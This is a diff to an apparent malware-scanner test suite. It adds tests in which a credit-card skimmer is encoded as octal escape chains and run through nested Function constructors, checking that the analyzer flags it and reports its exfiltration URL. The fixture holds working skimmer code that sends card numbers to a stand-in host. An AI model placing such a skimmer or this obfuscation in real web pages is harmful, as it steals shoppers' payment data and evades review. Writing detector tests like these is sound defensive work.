@@ -117,3 +117,39 @@ function customBase64(bytes: string): string {
     c === c.toLowerCase() ? c.toUpperCase() : c.toLowerCase(),
   )
 }
+
+describe('text unescaped by a function that only returns a literal', () => {
+  // the skimmer as octal escapes, one character at a time from a table of digits: thousands of
+  // `+` in one chain, unescaped by Function('return "…"')() and run by Function again
+  const skimmer = `var build = '${'v2.'.repeat(50)}'
+    document.addEventListener('change', function () {
+      var n = document.querySelector('input[autocomplete="cc-number"]').value
+      new Image().src = 'https://px.glyph-table.example/c.gif?d=' + btoa(n) }, true)`
+  const digits = [...skimmer].flatMap((c) => [
+    'T.k',
+    ...c
+      .charCodeAt(0)
+      .toString(8)
+      .padStart(3, '0')
+      .split('')
+      .map((d) => `T.d${d}`),
+  ])
+  const table = `var T = { k: '\\\\', q: '"' }
+    for (var i = 0; i < 8; i++) T['d' + i] = '' + i
+    var F = (0).constructor.constructor`
+  const chain = ["'return '", 'T.q', ...digits, 'T.q'].join('+')
+
+  it('is read however long the chain, and the layer it runs is judged', () => {
+    expect(digits.length).toBeGreaterThan(1400)
+    const v = analyzeScript(`${table}\nF(F(${chain})())()`)
+    expect(v.verdict).toBe('malicious')
+    expect(v.findings.map((f) => f.message).join('\n')).toContain(
+      'https://px.glyph-table.example/c.gif',
+    )
+  })
+
+  it('eval of a script that is one string literal gives that string', () => {
+    const v = analyzeScript(`${table}\nF(eval(T.q+${digits.join('+')}+T.q))()`)
+    expect(v.verdict).toBe('malicious')
+  })
+})
